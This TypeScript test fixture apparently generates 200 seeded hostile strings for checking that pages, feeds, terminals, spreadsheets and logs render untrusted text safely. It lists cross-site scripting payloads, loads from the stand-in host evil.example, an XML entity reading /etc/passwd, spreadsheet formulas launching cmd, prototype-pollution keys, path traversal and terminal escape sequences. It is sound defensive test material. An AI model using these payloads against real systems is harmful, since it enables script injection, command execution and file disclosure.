/** 200 texts that attack whoever shows them: page, feed, terminal, spreadsheet, log. Seeded, the same in every run. */
import { seededRandom } from "./seeded-random.ts";

const seed = 20_260_301;

/** One line of a megabyte, for one field of one article. */
export const longLine = "x".repeat(2 ** 20);

const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "</script><script src=https://evil.example/x.js></script>",
  '"><img src=https://evil.example/p.png onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  "</title><script>alert(1)</script>",
  "</textarea></style></noscript><iframe src=javascript:alert(1)></iframe>",
  "<!-- --><base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><button>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<p id=main><a href=javascript:alert(1)>here</a>",
  "]]><script>alert(1)</script><![CDATA[",
  "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3c;script&#x3e;alert(1)",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "$" + "{alert(1)} {{constructor.constructor('alert(1)')()}} #{7*7}",
  "` onmouseover=alert(1) x=`",
  "\u202egnp.exe\u202c killed 21\u2066 12\u2069",
  "\u2067\u202e\u2066 three overrides left open",
  "\u200b\u200c\u200d\u2060\ufeffzero\u200bwidth\u00ad\u034f",
  `Z${"\u0301\u0489\u20dd".repeat(200)}algo`,
  "\u001b[2J\u001b[31;1mred\u001b]0;title\u0007\u001b]8;;https://evil.example/\u001b\\link",
  "\u009b2J\u0090q\u009c\u0085next",
  "over\rwritten\b\b\b\u007f\u0007",
  "one\nforged line\r\nversion 9\u2028two\u2029three\u000bfour\u000cfive",
  "NUL\u0000in\u0000it",
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example/","here")',
  "+1+cmd|'/c calc'!A1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  '","","=1+1"',
  "__proto__",
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  "constructor.prototype.toString",
  "\ud800 lone \udc00 surrogates \udfff",
  "\ufffe\uffff\u{1fffe} no characters",
  "\u{e0001}\u{e0041}\u{e0042}tags",
  "../../../../etc/passwd%00.html",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f1eb}\u{1f1f7}\u0600\u06dd",
  "<\u0000script>alert(1)</script> <scr\u00adipt>alert(1)</scr\u00adipt>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  `${"<b>".repeat(600)}deep`,
  `${"long ".repeat(2000)}line`,
];

/** Each attack alone, then pieces of several run together. */
export const hostileTexts: readonly string[] = (() => {
  const random = seededRandom(seed);
  const short = attacks.filter((text) => text.length < 1000);
  const pick = (): string => short[Math.floor(random() * short.length)] ?? "";
  const piece = (): string => {
    const text = pick();
    return random() < 0.3 ? text.slice(0, Math.floor(random() * text.length)) : text;
  };
  const texts = [...attacks];
  while (texts.length < 200) texts.push([piece(), piece(), piece()].join(random() < 0.5 ? " " : ""));
  return texts;
})();
